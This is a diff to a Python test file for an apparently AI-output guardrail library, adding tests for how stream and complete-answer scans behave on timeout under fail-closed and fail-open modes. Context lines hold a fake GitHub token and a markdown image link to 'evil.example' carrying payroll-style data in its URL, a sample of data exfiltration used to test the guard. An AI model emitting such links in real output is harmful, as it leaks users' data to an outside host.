@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import time
 from collections.abc import Callable
 from typing import Any
 
@@ -29,7 +30,14 @@ from ramparts.policy.book import CompiledPolicy, compile_policy
 from ramparts.policy.guard import apply_redactions, scan_units, text_units
 from ramparts.policy.model import parse_policy
 from ramparts.policy.redaction import MemoryVault
-from ramparts.policy.stage import STATE_KEY, GuardrailStage, RequestState, _GuardedStream
+from ramparts.policy.stage import (
+    STATE_KEY,
+    GuardrailStage,
+    GuardTimeout,
+    RequestState,
+    _GuardedStream,
+    _run_guard,
+)
 
 TOKEN = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
 LINK = "![a](https://evil.example/p.png?u=alice-smith-payroll)"
@@ -266,3 +274,47 @@ def test_decoded_arguments_handles_escapes_and_broken_json() -> None:
 
     assert _decoded_arguments('{"k\\u0065y": ["a\\u002db", {"n": 1}]}') == "key\na-b\nn"
     assert _decoded_arguments('{"e": "\\ud83d\\ude00\\n\\"x') == '{"e": "\U0001f600\n"x'
+
+
+# --- 6. timeouts on scans that run on the event loop -----------------------------------
+
+
+def _slow_scan(engine: Any) -> Callable[..., Any]:
+    real = engine.scan
+
+    def scan(*args: Any, **kwargs: Any) -> Any:
+        time.sleep(0.12)  # well over the 50 ms timeout below
+        return real(*args, **kwargs)
+
+    return scan
+
+
+def test_inline_guard_work_over_its_timeout_counts_as_timed_out() -> None:
+    assert asyncio.run(_run_guard(lambda: "done", 250, 10)) == "done"
+    with pytest.raises(GuardTimeout):
+        asyncio.run(_run_guard(lambda: time.sleep(0.12), 50, 10))
+
+
+@pytest.mark.parametrize(
+    ("mode", "status"), [("fail_closed", "timed_out"), ("fail_open", "failed_open")]
+)
+def test_stream_scan_over_its_timeout_follows_the_failure_mode(mode: str, status: str) -> None:
+    c = compiled(f"guards:\n  output: {{failure_mode: {mode}, timeout_ms: 50}}\n")
+    c.output_engine.scan = _slow_scan(c.output_engine)  # type: ignore[method-assign,union-attr]
+    answer = "Hello there, " * 30
+    out, exchange = drive(RequestState(c, "s"), [TextDelta(answer), Finish("stop")])
+    record = exchange.guardrails["output"]
+    assert record["status"] == status
+    if mode == "fail_closed":
+        assert record["verdict"] == "block"
+        assert [e.reason for e in out if isinstance(e, Finish)] == ["content_filter"]
+    else:
+        assert texts(out) == answer
+
+
+def test_complete_answer_scan_over_its_timeout_is_blocked_when_failing_closed() -> None:
+    c = compiled("guards:\n  output: {failure_mode: fail_closed, timeout_ms: 50}\n")
+    c.output_engine.scan = _slow_scan(c.output_engine)  # type: ignore[method-assign,union-attr]
+    result, exchange = complete(RequestState(c, "s"), [Choice(0, [TextPart("Hi")], "stop")])
+    assert result == "blocked"
+    assert exchange.guardrails["output"]["status"] == "timed_out"
